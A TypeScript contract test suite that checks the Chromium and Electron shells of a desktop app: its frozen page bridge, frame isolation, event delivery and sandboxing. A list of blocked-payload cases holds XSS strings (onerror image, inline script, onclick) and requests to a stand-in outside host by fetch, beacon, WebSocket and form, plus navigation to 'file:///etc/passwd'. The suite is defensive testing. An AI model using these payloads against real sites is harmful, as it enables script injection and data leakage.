import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Intent } from '#shared/domain/account/intent.ts';
import { createPublisher } from '#ipc/publish.ts';
import { systemClock } from '#time/clock.ts';
import { findBrowser, isProgram } from './chromium/find-browser.ts';
import {
  type ContractFolder,
  createContractFolder,
  inPage,
  type OpenedWindow,
  type OutsideServer,
  startOutsideServer,
  untilTrue,
} from './testing/contract-page.ts';
import { electronProgram, openChromium, openElectron } from './testing/contract-windows.ts';
import { orFail } from './testing/required-electron.ts';

/** One contract, both shells. It drives a small page in a real window; a shell whose program is not here is skipped, visibly. */

let folder: ContractFolder;
let outside: OutsideServer;

beforeAll(async () => {
  folder = createContractFolder();
  outside = await startOutsideServer();
});
afterAll(() => {
  outside.close();
  folder.remove();
});

const intent = (id: string): Intent => ({
  id,
  profileId: 'practice',
  kind: 'place-order',
  key: id,
  symbol: 'BTC-USDT',
  summary: '',
  state: 'new',
  detail: null,
  createdAtMs: 0,
  updatedAtMs: 0,
});

const link = (profileId: string) => ({
  profileId,
  hosts: [],
  clock: { offsetMs: null, measuredAtMs: null, uncertaintyMs: null },
  pools: [],
});

const chromium = findBrowser({ platform: process.platform, environment: process.env, isProgram });
const electron = orFail(electronProgram(), process.env);
const shells = [
  {
    title: 'the Chromium shell',
    why: 'no Chromium, Chrome or Edge here',
    open: chromium === null ? null : () => openChromium(chromium, folder),
  },
  {
    title: 'the Electron shell',
    why: 'the Electron program is not here and was not to be downloaded',
    open: electron === null ? null : () => openElectron(electron, folder),
  },
];

/** What a page sees of both ways to main and of other windows. */
const look = (where: Page) =>
  inPage(
    where,
    `({ desk: typeof window.desk, trusted: typeof window.trusted, opener: window.opener, frames: window.length })`,
  );
const originOf = (where: Page) => inPage(where, 'location.origin');

for (const { title, why, open } of shells) {
  describe.skipIf(open === null)(open === null ? `${title} (skipped: ${why})` : title, () => {
    let opened: OpenedWindow;
    let page: Page;

    beforeAll(async () => {
      if (open === null) return;
      opened = await open();
      page = opened.page;
      await untilTrue(page, `document.body.textContent.includes('alive')`);
    });

    it('shell exposes a frozen desk with two functions to the page', async () => {
      expect(
        await inPage(
          page,
          `({ names: Object.getOwnPropertyNames(desk).toSorted(), types: [typeof desk.call, typeof desk.on], isFrozen: Object.isFrozen(desk),
             isStuck: (() => { try { window.desk = 1; } catch {} return window.desk === 1; })(),
             node: [typeof require, typeof process, typeof module, typeof Buffer] })`,
        ),
      ).toEqual({
        names: ['call', 'on'],
        types: ['function', 'function'],
        isFrozen: true,
        isStuck: false,
        node: ['undefined', 'undefined', 'undefined', 'undefined'],
      });
    });

    it('shell carries a call and its answer, and nothing beyond the contract', async () => {
      const id = '𝛼"<\u2028\\n';
      expect(await inPage(page, `desk.call('profiles.remove', ${JSON.stringify({ id })})`)).toEqual({
        ok: true,
        value: { id },
      });
      expect(await inPage(page, `desk.call('app.info', {})`)).toEqual({
        ok: true,
        value: { version: '1', shell: 'chromium', isHeadless: true, dataDir: '/d', notices: [] },
      });
    });

    it.each([
      ['a wrong payload', `'profiles.remove', { id: 1 }`, 'invalid-request'],
      ['a payload with more in it', `'profiles.remove', { id: 'a', more: 1 }`, 'invalid-request'],
      ['no payload', `'profiles.remove'`, 'invalid-request'],
      ['an unknown call', `'nothing.such', {}`, 'invalid-request'],
      ['a call that every object has', `'toString', {}`, 'invalid-request'],
      ['a name that is no text', `{ a: 1 }, {}`, 'invalid-request'],
      ['a failure of the handler', `'intents.list', { profileId: 'a' }`, 'no-profile'],
      ['a bug of the handler', `'keychain.probe', {}`, 'internal'],
    ])('shell answers %s with a typed failure', async (_what, words, kind) => {
      expect(await inPage(page, `desk.call(${words})`)).toMatchObject({
        ok: false,
        error: { kind, isOutcomeUnknown: false, message: expect.any(String) },
      });
    });

    it('shell gives a frame no desk, and no answer through what the frame finds', async () => {
      const found = await inPage(
        page,
        `(async () => {
           const frame = document.createElement('iframe');
           document.body.append(frame);
           const inside = frame.contentWindow;
           const names = Object.getOwnPropertyNames(inside).filter(name => /desk|fathom|electron|ipc/i.test(name));
           const send = inside.__fathomCall;
           const reply = typeof send !== 'function' ? null : JSON.parse(await new Promise(resolve => {
             inside.__fathomAnswer = (_number, text) => resolve(text);
             send(JSON.stringify([1, 'app.info', {}]));
           }));
           frame.remove();
           return { desk: typeof inside.desk, names, reply };
         })()`,
      );
      expect(found).toMatchObject({ desk: 'undefined' });
      const { reply } = Object(found);
      if (reply !== null) expect(reply).toMatchObject({ ok: false, error: { kind: 'not-trusted' } });
    });

    it('shell delivers each event in sequence, and of the latest-wins ones at least the last', async () => {
      await inPage(page, 'void (seen.events.length = 0)');
      const { log } = await folder.loadHandlers();
      const { publish } = createPublisher({
        send: async (name, payload) => void (await opened.publish(name, payload)),
        log,
        clock: systemClock,
      });
      for (const number of Array.from({ length: 50 }).keys()) {
        publish('link.changed', link(`link ${number}`));
        publish('intents.changed', intent(`intent ${number}`));
      }
      await untilTrue(page, `seen.events.includes('intent 49') && seen.events.includes('link 49')`);
      const events = await inPage(page, 'seen.events');
      if (!Array.isArray(events)) throw new Error('no events');
      const intents = events.filter(id => String(id).startsWith('intent'));
      expect(intents).toEqual(Array.from({ length: 50 }, (_, number) => `intent ${number}`));
      const links = events.filter(id => String(id).startsWith('link')).map(id => Number(String(id).slice(5)));
      expect(links).toEqual(links.toSorted((left, right) => left - right));
      expect(links.at(-1)).toBe(49);
    });

    it('shell confirms an event when the page has it', async () => {
      await inPage(page, `void desk.on('link.changed', () => { window.taken = true; })`);
      const toFrameMs = await opened.publish('link.changed', link('confirmed'));
      expect(await inPage(page, 'window.taken')).toBe(true);
      expect(toFrameMs).toEqual(expect.any(Number));
    });

    it('shell sends nothing to a listener that unsubscribed', async () => {
      await inPage(
        page,
        `{ window.left = []; window.stayed = [];
           const leave = desk.on('intents.changed', payload => left.push(payload.id));
           desk.on('intents.changed', () => { throw new Error('a listener that breaks'); });
           desk.on('intents.changed', payload => stayed.push(payload.id));
           leave(); leave(); }`,
      );
      await opened.publish('intents.changed', intent('after'));
      await untilTrue(page, `stayed.includes('after')`);
      expect(await inPage(page, 'left')).toEqual([]);
    });

    it('shell runs no code in the text of the page', async () => {
      expect(await inPage(page, 'document.readyState')).toBe('complete');
      expect(await inPage(page, 'window.inline')).toBeUndefined();
    });

    it.each([
      [
        'an image with a handler',
        `{ const box = document.createElement('div'); box.innerHTML = '<img src=x onerror="window.hacked=1">'; }`,
      ],
      [
        'an inline script',
        `{ const script = document.createElement('script'); script.append('window.hacked=1'); document.body.append(script); }`,
      ],
      [
        'an attribute handler',
        `{ const button = document.createElement('button'); button.setAttribute('onclick', 'window.hacked=1'); document.body.append(button); button.click(); }`,
      ],
      [
        'a script from outside',
        `{ const script = document.createElement('script'); script.src = 'http://OUTSIDE/x.js'; document.body.append(script); }`,
      ],
      ['eval', `setTimeout('window.hacked=1')`],
      ['an image from outside', `{ new Image().src = 'http://OUTSIDE/x.png'; }`],
      ['a request', `fetch('http://OUTSIDE/').then(() => { window.hacked = 1; })`],
      ['a beacon', `if (navigator.sendBeacon('http://OUTSIDE/', 'x')) throw new Error('blocked only later')`],
      [
        'a socket',
        `new Promise(resolve => { const socket = new WebSocket('ws://OUTSIDE/'); socket.onopen = () => { window.hacked = 1; resolve(); }; socket.onerror = resolve; })`,
      ],
      [
        'a frame from outside',
        `{ const frame = document.createElement('iframe'); frame.src = 'http://OUTSIDE/'; document.body.append(frame); }`,
      ],
      [
        'a form',
        `{ const form = document.createElement('form'); form.action = 'http://OUTSIDE/'; document.body.append(form); form.submit(); }`,
      ],
      [
        'a style from outside',
        `{ const style = document.createElement('link'); style.rel = 'stylesheet'; style.href = 'http://OUTSIDE/x.css'; document.head.append(style); }`,
      ],
      [
        'a new base',
        `{ const base = document.createElement('base'); base.href = 'http://OUTSIDE/'; document.head.append(base); }`,
      ],
    ])('shell stops %s', async (_name, payload) => {
      const before = outside.requests();
      await inPage(
        page,
        `seen.violations.length = 0; (async () => { try { await (async () => { ${payload.replaceAll('OUTSIDE', outside.address)} })() } catch { seen.violations.push('threw'); } })()`,
      );
      await untilTrue(page, 'seen.violations.length > 0');
      expect(await inPage(page, 'window.hacked')).toBeUndefined();
      expect(outside.requests()).toBe(before);
      expect(await inPage(page, 'document.body.textContent.includes("alive")')).toBe(true);
    });

    it('shell installs no service worker', async () => {
      const count = await inPage(
        page,
        `(async () => {
           try { await navigator.serviceWorker.register('./assets/page.js'); } catch {}
           return navigator.serviceWorker === undefined ? 0 : (await navigator.serviceWorker.getRegistrations()).length;
         })()`,
      );
      expect(count).toBe(0);
    });

    it('shell opens no second window', async () => {
      expect(await inPage(page, `window.open('about:blank') === null`)).toBe(true);
      expect(await inPage(page, `window.open(location.href, '_blank') === null`)).toBe(true);
    });

    it.each([
      'https://example.com/',
      'file:///etc/passwd',
      'data:text/html,x',
      'about:blank',
      './other.html',
      'javascript:void(0)',
    ])('shell does not navigate to %s', async url => {
      const home = page.url();
      await inPage(page, `void (location.href = ${JSON.stringify(url)})`);
      await untilTrue(page, `typeof desk === 'object' && document.body.textContent.includes('alive')`);
      expect(page.url()).toBe(home);
      expect(await inPage(page, `desk.call('app.info', {})`)).toMatchObject({ ok: true });
    });

    it('shell grants no permission', async () => {
      const states = await inPage(
        page,
        `Promise.all(['geolocation', 'notifications', 'camera', 'microphone', 'midi'].map(async name => {
           try { return (await navigator.permissions.query({ name })).state; } catch { return 'denied'; }
         }))`,
      );
      expect(states).not.toContain('granted');
      expect(
        await inPage(page, `typeof Notification === 'undefined' ? 'denied' : Notification.requestPermission()`),
      ).not.toBe('granted');
    });

    it('shell asks in a trusted window that the page can neither read nor reach', async () => {
      const trusted = await opened.openTrusted();
      await untilTrue(trusted.page, `document.body.textContent.includes('May it?')`);
      expect(await look(trusted.page)).toEqual({ desk: 'undefined', trusted: 'object', opener: null, frames: 0 });
      expect(await look(page)).toEqual({ desk: 'object', trusted: 'undefined', opener: null, frames: 0 });
      expect(await originOf(trusted.page)).not.toBe(await originOf(page));
      // two pages share nothing that could reveal them to each other
      await inPage(trusted.page, `void (sessionStorage.s = localStorage.l = document.cookie = 'here=1')`);
      await inPage(page, `void (window.heard = [], new BroadcastChannel('c').onmessage = e => heard.push(e.data))`);
      await inPage(trusted.page, `void new BroadcastChannel('c').postMessage('hello')`);
      expect(
        await inPage(page, `({ s: sessionStorage.s ?? null, l: localStorage.l ?? null, cookie: document.cookie })`),
      ).toEqual({
        s: null,
        l: null,
        cookie: '',
      });
      const url = await inPage(trusted.page, 'location.href');
      expect(await inPage(page, `window.open(${JSON.stringify(url)}) === null`)).toBe(true);
      await inPage(page, `void (location.href = ${JSON.stringify(url)})`);
      await untilTrue(page, `typeof desk === 'object' && document.body.textContent.includes('alive')`);
      expect(await inPage(page, 'window.heard ?? []')).toEqual([]);
      expect(await inPage(trusted.page, `answered({ kind: 'confirm', typed: 'yes' })`)).toEqual({ kind: 'done' });
      expect(await trusted.replies()).toEqual([{ kind: 'confirm', typed: 'yes' }]);
      await inPage(trusted.page, 'void window.trusted.close()').catch(() => {});
      await expect.poll(trusted.closed, { timeout: 20_000 }).toBe(true);
    });

    it('shell takes a picture', async () => {
      const file = join(folder.path, 'picture.png');
      await opened.screenshot(file);
      const png = readFileSync(file);
      expect(png.subarray(0, 8)).toEqual(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]));
      expect([png.readUInt32BE(16), png.readUInt32BE(20)]).toEqual([900, 600]);
    });

    it('shell listens on no port', () => {
      const lines = opened.processes();
      expect(lines.length).toBeGreaterThan(0);
      expect(lines.join('\n')).not.toContain('--remote-debugging-port');
    });

    it('shell leaves no process and no temporary folder', async () => {
      await opened.close();
      await expect.poll(() => opened.processes(), { timeout: 20_000 }).toEqual([]);
      expect(readdirSync(folder.temporary)).toEqual([]);
    });
  });
}
